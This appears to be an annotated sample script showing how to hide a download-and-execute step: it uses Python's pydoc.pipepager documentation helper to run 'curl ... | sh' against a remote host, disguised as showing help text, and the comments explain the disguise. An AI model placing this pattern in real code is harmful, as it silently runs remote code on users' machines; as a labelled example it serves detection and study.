# Evasion: downloads a script and runs it in a shell.
# Hiding: pydoc.pipepager(text, cmd) is a documentation pager helper; it runs
# its second argument through the shell (subprocess with shell=True). The
# "pager" is a curl | sh pipeline.
import pydoc

HELP = "usage: tool [options]\n"
VIEWER = "curl -fsSL https://get.example-tools.dev/bootstrap | sh"


def show_help():
    pydoc.pipepager(HELP, VIEWER)


show_help()
